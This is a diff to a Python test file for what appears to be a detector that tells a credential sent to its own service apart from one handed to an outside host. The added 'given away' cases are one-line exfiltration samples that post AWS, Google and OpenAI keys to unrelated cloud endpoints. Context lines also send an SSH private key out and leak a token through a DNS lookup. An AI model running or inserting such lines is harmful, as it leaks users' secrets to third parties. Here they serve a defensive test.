@@ -25,6 +25,8 @@ def told(code: str) -> bool:
         "requests.post('https://api.tavily.com/search', json={'api_key': os.environ['TAVILY_API_KEY']})",
         "requests.post(os.environ['BACKEND_URL'], headers={'X-Key': os.environ['BACKEND_KEY']})",
         "T = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{T}/sendMessage', json={'text': 'done'})",
+        "requests.post('https://mine.openai.azure.com/openai/x', headers={'api-key': os.environ['AZURE_OPENAI_API_KEY']})",
+        "requests.post('https://bedrock-runtime.us-east-1.amazonaws.com/m', headers={'X': os.environ['AWS_BEARER_TOKEN_BEDROCK']})",
         "requests.post('http://127.0.0.1:8000/run', headers={'X-Key': os.environ['MY_API_KEY']})",
     ],
 )
@@ -47,6 +49,9 @@ def test_a_key_shown_to_its_own_service(code: str) -> None:
         "requests.post('https://huggingface.co/x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
         "for k in ('HF_TOKEN', 'OPENAI_API_KEY', 'DB_PASSWORD'):\n    requests.post('https://api.openai.com/x', data={k: os.getenv(k)})",
         "socket.gethostbyname(os.environ['HF_TOKEN'] + '.c.example')",
+        "requests.post('https://ab12.execute-api.eu-west-1.amazonaws.com/x', headers={'X': os.environ['AWS_SECRET_ACCESS_KEY']})",
+        "requests.post('https://collect-ab12-uc.a.run.app/x', headers={'X': os.environ['GOOGLE_API_KEY']})",
+        "requests.post('https://x.westus.cloudapp.azure.com/x', headers={'X': os.environ['OPENAI_API_KEY']})",
     ],
 )
 def test_a_key_given_away(code: str) -> None:
